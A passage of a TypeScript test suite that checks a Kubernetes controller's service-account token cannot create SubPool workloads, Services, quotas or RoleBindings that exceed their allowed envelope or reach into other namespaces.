      "StatefulSet",
      (o) => (cpa(o).resources = { requests: { cpu: "64", memory: "256Mi" } }),
    ],
    ["a GPU", "StatefulSet", (o) => (cpa(o).resources = { limits: { "nvidia.com/gpu": "8" } })],
    [
      "a claim on an existing volume (another pool's data)",
      "StatefulSet",
      (o) => {
        const [template] = (o.spec as { volumeClaimTemplates: Array<{ spec: Record<string, unknown> }> })
          .volumeClaimTemplates;
        if (template) template.spec.volumeName = "pv-of-another-pool";
      },
    ],
    ["type NodePort", "Service", (o) => ((o.spec as Record<string, unknown>).type = "NodePort")],
    ["type LoadBalancer", "Service", (o) => ((o.spec as Record<string, unknown>).type = "LoadBalancer")],
    [
      "a selector of other Pods",
      "Service",
      (o) => ((o.spec as Record<string, unknown>).selector = { "app.kubernetes.io/name": "database" }),
    ],
    [
      "a quota above the envelope",
      "ResourceQuota",
      (o) => ((o.spec as { hard: Record<string, string> }).hard["requests.cpu"] = "1000"),
    ],
    [
      "a quota of other keys (no Pods at all)",
      "ResourceQuota",
      (o) => ((o.spec as { hard: Record<string, string> }).hard.pods = "0"),
    ],
  ];

  it.each(variants)(
    "kubefn's token cannot write a SubPool's object with %s (%s)",
    async (what, kind, change) => {
      const object = of(kind);
      change(object);
      const resource = resourceOf[kind] as Resource;
      await refused(
        `${kind} with ${what}`,
        () => kubefn.create(resource, object),
        () => deleteNow(resource, { namespace, name: object.metadata.name ?? "" }),
      );
    },
  );

  it("what buildDesired derives is admitted", async () => {
    for (const kind of ["ResourceQuota", "Service", "StatefulSet"]) {
      const object = of(kind);
      // As suspended (buildDesired's replicas 0): no Pod, so no volume claim outlives the test.
      if (kind === "StatefulSet") (object.spec as Record<string, unknown>).replicas = 0;
      const resource = resourceOf[kind] as Resource;
      await kubefn.create(resource, object);
      await deleteNow(resource, { namespace, name: object.metadata.name ?? "" });
    }
  });

  it("a subpool-* Namespace kubefn did not make (no pool label) is not a SubPool's: no binding of its Secrets, no workload", async () => {
    const squat = `subpool-squat-${suffix}`;
    await admin.create(Resources.Namespace, {
      apiVersion: "v1",
      kind: "Namespace",
      metadata: { name: squat },
    });
    const message = await refused(
      "a RoleBinding of the SubPool objects role in another's subpool-* Namespace",
      () =>
        kubefn.create(Resources.RoleBinding, {
          apiVersion: "rbac.authorization.k8s.io/v1",
          kind: "RoleBinding",
          metadata: { name: "kubefn-subpool-objects", namespace: squat, labels: poolLabels("squat") },
          roleRef: {
            apiGroup: "rbac.authorization.k8s.io",
            kind: "ClusterRole",
            name: "kubefn-subpool-objects",
          },
          subjects: [{ kind: "ServiceAccount", name: "kubefn", namespace: "kubefn-system" }],
        }),
      () => deleteNow(Resources.RoleBinding, { namespace: squat, name: "kubefn-subpool-objects" }),
    );
    expect(message).toMatch(/subpool-\*/);
    const statefulSet = of("StatefulSet");
    statefulSet.metadata.namespace = squat;
    await refused(
      "a StatefulSet in another's subpool-* Namespace",
      () => kubefn.create(Resources.StatefulSet, statefulSet),
      () => deleteNow(Resources.StatefulSet, { namespace: squat, name: statefulSet.metadata.name ?? "" }),
    );
  });
});
